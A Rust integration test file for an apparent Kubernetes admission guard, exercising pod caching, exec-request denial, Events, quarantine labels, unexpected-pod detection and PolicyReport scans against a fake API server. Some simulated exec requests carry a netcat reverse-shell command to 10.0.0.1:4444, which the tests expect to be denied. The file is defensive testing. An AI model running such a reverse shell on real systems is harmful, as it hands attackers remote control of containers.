@@ -1,0 +1,584 @@
+//! The cluster side against a fake API server on loopback (`common::fake_api`): the pod cache
+//! (list, watch, bookmarks, 410 Gone and relist, selected namespaces), requests judged with their
+//! target's context over TLS, Events, the quarantine label, unexpected pod creation, `scan` with
+//! PolicyReports, and an API server that cannot be reached.
+
+mod common;
+
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::time::Duration;
+
+use common::fake_api::{pod, FakeApi};
+use common::server::*;
+use reconguard::cluster::pods::{CacheObserver, PodCache};
+use serde_json::{json, Value};
+
+#[derive(Default)]
+struct Counting {
+    errors: AtomicUsize,
+}
+
+impl CacheObserver for Counting {
+    fn changed(&self, _: &PodCache) {}
+    fn error(&self, _: &kube::runtime::watcher::Error) {
+        self.errors.fetch_add(1, Ordering::SeqCst);
+    }
+}
+
+fn exporter_spec() -> Value {
+    json!({
+        "hostPID": true,
+        "containers": [{"name": "node-exporter", "image": "quay.io/prometheus/node-exporter:v1.8.2",
+                        "volumeMounts": [{"name": "root", "mountPath": "/host/root"}]}],
+        "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
+    })
+}
+
+fn plain_spec(sa: &str) -> Value {
+    json!({"serviceAccountName": sa, "containers": [{"name": "app", "image": "registry.example/web:1.0"}]})
+}
+
+/// The cluster most tests start from: a monitoring DaemonSet pod that reaches the node, three
+/// Deployment pods in `shop`, and a finished Job pod.
+fn seed(api: &FakeApi) {
+    api.put_pod(pod(
+        "mon",
+        "exporter-x1",
+        exporter_spec(),
+        Some(("DaemonSet", "exporter")),
+    ));
+    for i in 0..3 {
+        api.put_pod(pod(
+            "shop",
+            &format!("web-{i}"),
+            plain_spec("web"),
+            Some(("ReplicaSet", "web-7d9f8")),
+        ));
+    }
+    let mut done = pod(
+        "shop",
+        "migrate-1",
+        plain_spec("default"),
+        Some(("Job", "migrate")),
+    );
+    done["status"]["phase"] = json!("Succeeded");
+    api.put_pod(done);
+}
+
+async fn client(api: &FakeApi, dir: &std::path::Path) -> kube::Client {
+    reconguard::cluster::client(Some(&api.kubeconfig(dir)))
+        .await
+        .unwrap()
+}
+
+#[tokio::test]
+async fn the_cache_lists_watches_and_relists_after_410_gone() {
+    let api = FakeApi::start().await;
+    seed(&api);
+    let dir = tempfile::tempdir().unwrap();
+    let cache = Arc::new(PodCache::new(vec![]));
+    let observer = Arc::new(Counting::default());
+    tokio::spawn(reconguard::cluster::pods::run(
+        client(&api, dir.path()).await,
+        cache.clone(),
+        observer.clone(),
+    ));
+    eventually("the first list", || async { cache.synced() }).await;
+    // Finished pods are left out by the field selector.
+    assert_eq!(cache.len(), 4);
+    assert!(cache.get("shop", "migrate-1").is_none());
+    let exporter = cache.get("mon", "exporter-x1").expect("cached");
+    assert!(exporter.host_pid);
+    assert_eq!(exporter.host_paths, [("root".to_string(), "/".to_string())]);
+    assert_eq!(exporter.controller.as_deref(), Some("DaemonSet/exporter"));
+    let list = api.requests();
+    let first = list.iter().find(|r| r.path == "/api/v1/pods").unwrap();
+    assert!(
+        first.query.contains("fieldSelector=status.phase"),
+        "{}",
+        first.query
+    );
+
+    // Watch events: added, modified into a finished phase (out of the selection), deleted.
+    api.put_pod(pod("shop", "debug", plain_spec("default"), None));
+    eventually("an added pod", || async {
+        cache.get("shop", "debug").is_some()
+    })
+    .await;
+    let mut finished = pod(
+        "shop",
+        "web-2",
+        plain_spec("web"),
+        Some(("ReplicaSet", "web-7d9f8")),
+    );
+    finished["status"]["phase"] = json!("Failed");
+    api.put_pod(finished);
+    eventually("a pod that finished", || async {
+        cache.get("shop", "web-2").is_none()
+    })
+    .await;
+    api.delete("api/v1", "pods", "shop", "debug", false);
+    eventually("a deleted pod", || async {
+        cache.get("shop", "debug").is_none()
+    })
+    .await;
+    let watches = api.count("GET", "/api/v1/pods", "watch=true");
+    assert!(watches >= 1);
+    assert!(
+        api.count("GET", "/api/v1/pods", "allowWatchBookmarks=true") >= 1,
+        "bookmarks asked for"
+    );
+
+    // History compacted while a pod went away unseen: the watch gets 410 and the cache relists.
+    let lists_before = api.count("GET", "/api/v1/pods", "limit=");
+    api.delete("api/v1", "pods", "shop", "web-0", true);
+    api.compact();
+    api.put_pod(pod("shop", "late", plain_spec("default"), None));
+    eventually("a relist after 410 Gone", || async {
+        cache.get("shop", "web-0").is_none() && cache.get("shop", "late").is_some()
+    })
+    .await;
+    assert!(api.count("GET", "/api/v1/pods", "limit=") > lists_before);
+    assert!(
+        observer.errors.load(Ordering::SeqCst) >= 1,
+        "the 410 reported"
+    );
+    assert_eq!(cache.len(), 3);
+}
+
+#[tokio::test]
+async fn a_cache_of_selected_namespaces_speaks_only_for_them() {
+    let api = FakeApi::start().await;
+    seed(&api);
+    let dir = tempfile::tempdir().unwrap();
+    let cache = Arc::new(PodCache::new(vec!["shop".into()]));
+    tokio::spawn(reconguard::cluster::pods::run(
+        client(&api, dir.path()).await,
+        cache.clone(),
+        Arc::new(Counting::default()),
+    ));
+    eventually("the list", || async { cache.synced() }).await;
+    assert!(cache.get("mon", "exporter-x1").is_none());
+    assert_eq!(
+        cache.namespace("shop").map(|n| (n.pods, n.managed)),
+        Some((3, 3))
+    );
+    assert_eq!(cache.namespace("mon"), None, "not watched: no summary");
+    assert_eq!(
+        api.count("GET", "/api/v1/pods", ""),
+        0,
+        "no cluster-wide list"
+    );
+    assert!(api.count("GET", "/api/v1/namespaces/shop/pods", "") >= 1);
+}
+
+fn exec_review(uid: &str, ns: &str, pod: &str, argv: &[&str], dry_run: bool) -> Value {
+    json!({
+        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
+        "request": {
+            "uid": uid,
+            "kind": {"group": "", "version": "v1", "kind": "PodExecOptions"},
+            "resource": {"group": "", "version": "v1", "resource": "pods"},
+            "subResource": "exec", "name": pod, "namespace": ns, "operation": "CONNECT",
+            "userInfo": {"username": "mallory@example.com", "groups": ["system:authenticated"]},
+            "object": {"kind": "PodExecOptions", "apiVersion": "v1", "stdout": true,
+                       "stderr": true, "container": "app", "command": argv},
+            "dryRun": dry_run,
+        }
+    })
+}
+
+fn create_review(uid: &str, ns: &str, name: &str, user: &str, extra: Option<&str>) -> Value {
+    let mut user_info = json!({"username": user, "groups": ["system:authenticated"]});
+    if let Some(p) = extra {
+        user_info["extra"] = json!({"authentication.kubernetes.io/pod-name": [p]});
+    }
+    json!({
+        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
+        "request": {
+            "uid": uid,
+            "kind": {"group": "", "version": "v1", "kind": "Pod"},
+            "resource": {"group": "", "version": "v1", "resource": "pods"},
+            "name": name, "namespace": ns, "operation": "CREATE", "userInfo": user_info,
+            "object": {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": ns},
+                       "spec": plain_spec("default")},
+            "dryRun": false,
+        }
+    })
+}
+
+fn rules_of(answer: &Value) -> String {
+    answer["response"]["auditAnnotations"]["rules"]
+        .as_str()
+        .unwrap_or("")
+        .to_string()
+}
+
+#[tokio::test]
+async fn requests_are_judged_with_their_target_and_reported_to_the_cluster() {
+    let api = FakeApi::start().await;
+    seed(&api);
+    let kube_dir = tempfile::tempdir().unwrap();
+    let kubeconfig = api.kubeconfig(kube_dir.path());
+    let server = Server::start(|c, _| {
+        c.cluster.pod_cache = true;
+        c.cluster.kubeconfig = Some(kubeconfig);
+        c.cluster.events = Some(reconguard::cluster::events::EventSettings {
+            dedupe: Duration::from_secs(300),
+            per_second: 50.0,
+            burst: 50,
+            instance: Some("reconguard-test".into()),
+        });
+        c.cluster.quarantine_min_score = Some(70);
+    })
+    .await;
+    server
+        .wait_for_metric("the pod cache synced", "reconguard_pod_cache_synced", &[])
+        .await;
+    let client = h2_client(&server.ca_pem);
+    let url = server.url("/validate");
+
+    // The same `ps aux`: annotated in a plain pod, denied in a hostPID pod with the host root.
+    let (_, _, plain) = post(
+        &client,
+        &url,
+        &exec_review("u1", "shop", "web-1", &["ps", "aux"], false),
+    )
+    .await;
+    assert_eq!(plain["response"]["allowed"], true, "{plain}");
+    assert!(!rules_of(&plain).contains("exec-escape-adjacent-target"));
+    let (_, _, node) = post(
+        &client,
+        &url,
+        &exec_review("u2", "mon", "exporter-x1", &["ps", "aux"], false),
+    )
+    .await;
+    assert_eq!(node["response"]["allowed"], false, "{node}");
+    let message = node["response"]["status"]["message"].as_str().unwrap_or("");
+    assert!(
+        rules_of(&node).contains("exec-escape-adjacent-target"),
+        "{node}"
+    );
+    assert!(
+        message.contains("host-pid") && message.contains("hostpath-host-root"),
+        "{message}"
+    );
+
+    // A pod the cache does not know: judged by the argv alone, never an error.
+    let (status, _, unknown) = post(
+        &client,
+        &url,
+        &exec_review("u3", "mon", "gone", &["ps", "aux"], false),
+    )
+    .await;
+    assert!(status.is_success());
+    assert_eq!(unknown["response"]["allowed"], true, "{unknown}");
+
+    // An Event on the target pod, and the quarantine label on that very pod.
+    eventually("an Event for the denial", || async {
+        api.all("apis/events.k8s.io/v1", "events")
+            .iter()
+            .any(|e| e["regarding"]["name"] == "exporter-x1" && e["reason"] == "Denied")
+    })
+    .await;
+    let event = api
+        .all("apis/events.k8s.io/v1", "events")
+        .into_iter()
+        .find(|e| e["regarding"]["name"] == "exporter-x1")
+        .unwrap();
+    assert_eq!(event["metadata"]["namespace"], "mon");
+    assert_eq!(event["regarding"]["uid"], "uid-mon-exporter-x1");
+    assert_eq!(event["type"], "Warning");
+    assert!(
+        event["note"]
+            .as_str()
+            .unwrap()
+            .contains("mallory@example.com"),
+        "{event}"
+    );
+    eventually("the quarantine label", || async {
+        api.get("api/v1", "pods", "mon", "exporter-x1")
+            .is_some_and(|p| {
+                p["metadata"]["labels"]["reconguard.io/quarantine"] == "exec-escape-adjacent-target"
+            })
+    })
+    .await;
+    let patch = api
+        .requests()
+        .into_iter()
+        .find(|r| r.method == "PATCH" && r.path.ends_with("/pods/exporter-x1"))
+        .unwrap();
+    assert_eq!(
+        patch.body["metadata"]["uid"], "uid-mon-exporter-x1",
+        "uid precondition"
+    );
+
+    // The same denial again: deduplicated, not a second Event.
+    post(
+        &client,
+        &url,
+        &exec_review("u4", "mon", "exporter-x1", &["ps", "aux"], false),
+    )
+    .await;
+    server
+        .wait_for_metric(
+            "a deduplicated event",
+            "reconguard_events_total",
+            &[("outcome", "deduplicated")],
+        )
+        .await;
+    // A dry run denies the same way and leaves nothing behind; a later real denial elsewhere
+    // shows the queue moved past it.
+    let (_, _, dry) = post(
+        &client,
+        &url,
+        &exec_review(
+            "u5",
+            "shop",
+            "web-1",
+            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+            true,
+        ),
+    )
+    .await;
+    assert_eq!(dry["response"]["allowed"], false, "{dry}");
+    post(
+        &client,
+        &url,
+        &exec_review(
+            "u6",
+            "shop",
+            "web-0",
+            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+            false,
+        ),
+    )
+    .await;
+    eventually("the real denial's label", || async {
+        api.get("api/v1", "pods", "shop", "web-0")
+            .is_some_and(|p| !p["metadata"]["labels"]["reconguard.io/quarantine"].is_null())
+    })
+    .await;
+    let web1 = api.get("api/v1", "pods", "shop", "web-1").unwrap();
+    assert!(
+        web1["metadata"]["labels"]["reconguard.io/quarantine"].is_null(),
+        "dry run labelled"
+    );
+    let events = api.all("apis/events.k8s.io/v1", "events");
+    assert!(
+        !events.iter().any(|e| e["regarding"]["name"] == "web-1"),
+        "dry run reported"
+    );
+    assert_eq!(
+        events
+            .iter()
+            .filter(|e| e["regarding"]["name"] == "exporter-x1")
+            .count(),
+        1
+    );
+
+    // A person's bare pod where every pod has a controller; and a pod made with a workload's token.
+    let (_, _, bare) = post(
+        &client,
+        &url,
+        &create_review("u7", "shop", "tmp", "alice@example.com", None),
+    )
+    .await;
+    assert!(
+        rules_of(&bare).contains("pod-unexpected-creation"),
+        "{bare}"
+    );
+    let warnings = bare["response"]["warnings"].to_string();
+    assert!(
+        warnings.contains("alice@example.com")
+            && warnings.contains("ReplicaSet via kube-controller-manager"),
+        "{warnings}"
+    );
+    let (_, _, stolen) = post(
+        &client,
+        &url,
+        &create_review(
+            "u8",
+            "shop",
+            "miner",
+            "system:serviceaccount:shop:web",
+            Some("web-1"),
+        ),
+    )
+    .await;
+    assert!(
+        rules_of(&stolen).contains("pod-unexpected-creation"),
+        "{stolen}"
+    );
+    assert!(
+        stolen["response"]["warnings"]
+            .to_string()
+            .contains("ReplicaSet/web-7d9f8"),
+        "{stolen}"
+    );
+    // In a namespace the cache knows nothing of, there is no usual to compare with.
+    let (_, _, elsewhere) = post(
+        &client,
+        &url,
+        &create_review("u9", "empty", "tmp", "alice@example.com", None),
+    )
+    .await;
+    assert!(
+        !rules_of(&elsewhere).contains("pod-unexpected-creation"),
+        "{elsewhere}"
+    );
+
+    let metrics = server.metrics_text().await;
+    assert_promtool_accepts(&metrics);
+    assert!(metric(&metrics, "reconguard_pod_cache_pods", &[]) >= 4.0);
+    assert!(
+        metric(
+            &metrics,
+            "reconguard_quarantines_total",
+            &[("outcome", "labelled")]
+        ) >= 2.0
+    );
+    server.stop().await.unwrap();
+}
+
+#[tokio::test]
+async fn an_unreachable_api_server_leaves_requests_judged_alone() {
+    // A port nothing listens on.
+    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = closed.local_addr().unwrap().port();
+    drop(closed);
+    let dir = tempfile::tempdir().unwrap();
+    let kubeconfig = dir.path().join("kubeconfig");
+    std::fs::write(
+        &kubeconfig,
+        format!("apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: http://127.0.0.1:{port}\nusers:\n- name: u\n  user: {{}}\ncontexts:\n- name: c\n  context:\n    cluster: c\n    user: u\ncurrent-context: c\n"),
+    )
+    .unwrap();
+    let server = Server::start(|c, _| {
+        c.cluster.pod_cache = true;
+        c.cluster.kubeconfig = Some(kubeconfig);
+    })
+    .await;
+    let client = h2_client(&server.ca_pem);
+    let (status, _, answer) = post(
+        &client,
+        &server.url("/validate"),
+        &exec_review("u1", "mon", "exporter-x1", &["ps", "aux"], false),
+    )
+    .await;
+    assert!(status.is_success());
+    assert_eq!(answer["response"]["allowed"], true, "{answer}");
+    server
+        .wait_for_metric(
+            "watch errors",
+            "reconguard_pod_cache_watch_errors_total",
+            &[],
+        )
+        .await;
+    assert_eq!(
+        metric(
+            &server.metrics_text().await,
+            "reconguard_pod_cache_synced",
+            &[]
+        ),
+        0.0
+    );
+    server.stop().await.unwrap();
+}
+
+#[tokio::test]
+async fn scan_judges_what_runs_and_writes_policy_reports() {
+    let api = FakeApi::start().await;
+    seed(&api);
+    // More pods than one page (500) of a list.
+    for i in 0..1200 {
+        api.put_pod(pod(
+            "bulk",
+            &format!("p-{i:04}"),
+            plain_spec("default"),
+            Some(("ReplicaSet", "bulk-1")),
+        ));
+    }
+    api.put(
+        "apis/apps/v1",
+        "deployments",
+        json!({"apiVersion": "apps/v1", "kind": "Deployment",
+               "metadata": {"name": "agent", "namespace": "shop"},
+               "spec": {"selector": {"matchLabels": {"a": "b"}},
+                        "template": {"metadata": {"labels": {"a": "b"}},
+                                     "spec": {"hostPID": true, "containers": [{"name": "a", "image": "registry.example/agent:1.0", "securityContext": {"privileged": true}}]}}}}),
+    );
+    api.put_pod(pod("shop", "debug", plain_spec("default"), None));
+    let dir = tempfile::tempdir().unwrap();
+    let kubeconfig = api.kubeconfig(dir.path());
+    let output = tokio::task::spawn_blocking(move || {
+        std::process::Command::new(env!("CARGO_BIN_EXE_reconguard"))
+            .args([
+                "scan",
+                "--format",
+                "json",
+                "--policy-reports",
+                "--kubeconfig",
+            ])
+            .arg(&kubeconfig)
+            .output()
+            .unwrap()
+    })
+    .await
+    .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(1), "something denied: {stderr}");
+    let lines: Vec<Value> = stdout
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let find = |kind: &str, name: &str| {
+        lines
+            .iter()
+            .find(|l| l["kind"] == kind && l["name"] == name)
+            .unwrap_or_else(|| panic!("{kind}/{name} not in {stdout}"))
+    };
+    assert_eq!(find("Deployment", "agent")["decision"], "deny");
+    assert_eq!(find("Pod", "debug")["decision"], "allow");
+    // Pods of a ReplicaSet are judged through their template, not one by one.
+    assert!(!lines
+        .iter()
+        .any(|l| l["name"] == "web-0" || l["name"] == "p-0000"));
+    // A DaemonSet's pod is left to its DaemonSet's template too.
+    assert!(!lines.iter().any(|l| l["name"] == "exporter-x1"));
+    assert!(
+        api.count("GET", "/api/v1/pods", "continue=") >= 2,
+        "paged through 1,200 pods"
+    );
+
+    let reports = api.all("apis/wgpolicyk8s.io/v1alpha2", "policyreports");
+    let shop = reports
+        .iter()
+        .find(|r| r["metadata"]["namespace"] == "shop")
+        .expect("a report for shop");
+    assert_eq!(shop["metadata"]["name"], "reconguard");
+    let results = shop["results"].as_array().unwrap();
+    let failed: Vec<&Value> = results.iter().filter(|r| r["result"] == "fail").collect();
+    assert!(failed.iter().any(|r| r["rule"] == "privileged"
+        && r["resources"][0]["name"] == "agent"
+        && r["severity"].is_string()));
+    assert!(results
+        .iter()
+        .any(|r| r["result"] == "pass" && r["resources"][0]["name"] == "debug"));
+    assert_eq!(
+        shop["summary"]["fail"].as_u64().unwrap() as usize,
+        failed.len()
+    );
+    let apply = api
+        .requests()
+        .into_iter()
+        .find(|r| r.method == "PATCH" && r.path.contains("policyreports"))
+        .unwrap();
+    assert!(
+        apply.content_type.starts_with("application/apply-patch"),
+        "server-side apply"
+    );
+    assert!(apply.query.contains("fieldManager=reconguard") && apply.query.contains("force=true"));
+}
